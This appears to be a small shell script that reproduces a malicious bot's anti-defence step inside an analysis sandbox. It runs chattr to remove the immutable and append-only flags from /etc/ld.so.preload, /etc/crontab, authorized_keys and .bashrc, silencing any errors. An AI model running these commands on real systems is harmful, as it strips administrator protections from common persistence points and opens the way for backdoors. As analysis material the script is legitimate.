#!/bin/sh
# SPDX-License-Identifier: MIT
# A rival or an administrator made the files a bot needs immutable; the bot
# clears the immutable and append-only attributes before it rewrites them.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
for f in /etc/ld.so.preload /etc/crontab "$HOME/.ssh/authorized_keys"; do
	[ -e "$f" ] && chattr -i -a "$f" 2>/dev/null
done
chattr -i "$HOME/.bashrc" 2>/dev/null
exit 0
